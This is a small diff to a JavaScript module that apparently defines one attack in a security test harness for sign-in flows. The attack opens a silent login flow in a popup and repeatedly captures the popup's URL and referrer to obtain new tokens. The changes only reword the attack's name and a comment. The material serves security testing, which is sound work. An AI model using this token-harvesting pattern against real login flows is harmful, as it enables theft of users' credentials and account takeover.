@@ -1,7 +1,7 @@
 import { attack } from "../attack.js";
 
 export default attack({
-  name: "silent flow in a popup",
+  name: "runs a silent flow in a popup",
   threat: "acquisition of new tokens",
   target: "any",
   wantsCode: true,
@@ -11,7 +11,7 @@ export default attack({
       try {
         it.steal(popup?.location.href, popup?.document.referrer);
       } catch {
-        // The popup is of another origin now.
+        // The popup is cross-origin now.
       }
       await it.pause(10);
     }
